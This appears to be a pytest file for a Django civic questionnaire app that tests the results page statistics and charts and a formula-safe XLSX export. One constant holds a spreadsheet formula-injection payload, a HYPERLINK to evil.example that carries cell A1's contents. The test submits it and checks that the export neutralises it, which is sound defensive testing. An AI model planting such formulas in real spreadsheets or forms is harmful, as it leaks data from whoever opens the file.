"""Results (counts, percentages, averages, charts, texts) and the formula-safe XLSX export."""

import io
import json

import openpyxl
from django.test import Client

from civicdesk.conftest import login
from civicdesk.questionnaires.tests.conftest import CODE_A, CODE_B, CODE_C, field, web_answers

URL = "/q/yingshang/"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'


def _answer(survey, code: str, **answers) -> None:
    data = web_answers(survey, **{field(survey, "Q1", "code"): code})
    data.update({field(survey, key): value for key, value in answers.items()})
    assert Client().post(URL, data).status_code == 302


def _three_answers(survey) -> None:
    option = {
        o.label: str(o.pk) for o in survey.current_version.questions.get(code="Q2").options.all()
    }
    _answer(survey, CODE_A, Q4="5", Q6="")
    _answer(survey, CODE_B, Q2=option["国有企业"], Q4="4", Q5="2", Q6="办事指南请写清楚")
    _answer(survey, CODE_C, Q4="1", Q6=INJECTION)


def test_results_count_average_and_chart(clerk, leader, survey):
    _three_answers(survey)
    for user in (clerk, leader):
        response = login(user).get(f"/staff/questionnaires/{survey.pk}/results/")
        assert response.status_code == 200
    body = response.content.decode()
    assert "3 responses to version 1" in body
    q2 = body.split('id="result-Q2"')[1].split("</section>")[0]
    assert "<td>民营企业</td><td>2</td><td>66.7%</td>" in q2
    assert "<td>国有企业</td><td>1</td><td>33.3%</td>" in q2
    q4 = body.split('id="result-Q4"')[1].split("</section>")[0]
    assert '<strong class="qn-average">3.33</strong>' in q4  # (5 + 4 + 1) / 3
    assert "1 at or below 2" in q4
    assert "<td>1 非常不满意</td><td>1</td><td>33.3%</td>" in q4
    q3 = body.split('id="result-Q3"')[1].split("</section>")[0]
    assert "<td>开办企业</td><td>3</td><td>100.0%</td>" in q3  # several options per answer
    q6 = body.split('id="result-Q6"')[1].split("</section>")[0]
    assert "办事指南请写清楚" in q6 and "&quot;点这里&quot;" in q6
    # Charts: data in json_script blocks for the static chart script, no inline code.
    assert 'data-chart="chart-q' in q2
    assert "questionnaires/results.js" in body and "vendor/echarts-6.1.0.min.js" in body


def test_chart_data_of_the_scale(clerk, survey):
    _three_answers(survey)
    body = login(clerk).get(f"/staff/questionnaires/{survey.pk}/results/").content.decode()
    q4 = survey.current_version.questions.get(code="Q4")
    block = body.split(f'<script id="chart-q{q4.pk}" type="application/json">')[1]
    chart = json.loads(block.split("</script>")[0])
    assert chart == {
        "labels": ["1 非常不满意", "2", "3", "4", "5 非常满意"],
        "values": [1, 0, 0, 1, 1],
    }


def test_export_has_every_response_and_neutralises_formulas(clerk, survey):
    _three_answers(survey)
    response = login(clerk).get(f"/staff/questionnaires/{survey.pk}/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["v1"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header = rows[0]
    assert header[:6] == ["编号", "版本", "渠道", "提交时间", "企业名称", "统一社会信用代码"]
    assert header[-1] == "Q6 您对优化营商环境的意见和建议"
    assert len(rows) == 4
    by_code = {row[5]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_code[CODE_A]["Q3 近一年办理过哪些事项"] == "开办企业、纳税"
    assert by_code[CODE_B]["Q4 您对区政务服务的总体满意度"] == 4
    # The injected formula stays text: a leading apostrophe, and no cell is a formula.
    assert by_code[CODE_C]["Q6 您对优化营商环境的意见和建议"] == "'" + INJECTION
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_export_of_an_unanswered_questionnaire(clerk, survey):
    response = login(clerk).get(f"/staff/questionnaires/{survey.pk}/export.xlsx")
    rows = [list(r) for r in openpyxl.load_workbook(io.BytesIO(response.content)).active.values]
    assert rows == [["编号", "版本", "渠道", "提交时间", "企业名称", "统一社会信用代码", "联系人",
                     "联系电话", "问卷编号", "填写日期", "录入人"]]  # fmt: skip
